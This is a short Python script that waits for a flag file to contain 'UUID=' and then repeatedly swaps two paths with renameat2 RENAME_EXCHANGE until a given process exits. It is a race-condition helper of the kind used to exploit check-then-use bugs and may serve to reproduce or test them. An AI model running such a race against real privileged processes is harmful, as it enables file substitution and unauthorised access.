#!/usr/bin/python3
# xchg.py A B FLAGFILE PID: once FLAGFILE contains 'UUID=' exchange A and B (renameat2 RENAME_EXCHANGE) in a tight loop until PID exits
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
a, b, flag, pid = sys.argv[1].encode(), sys.argv[2].encode(), sys.argv[3], int(sys.argv[4])
AT = -100
def alive():
    try: os.kill(pid, 0); return True
    except OSError: return False
while alive():
    try:
        if 'UUID=' in open(flag).read(): break
    except OSError: pass
n = 0
while alive():
    libc.syscall(316, AT, a, AT, b, 2); n += 1
print("exchanges:", n, "(odd means swapped)")
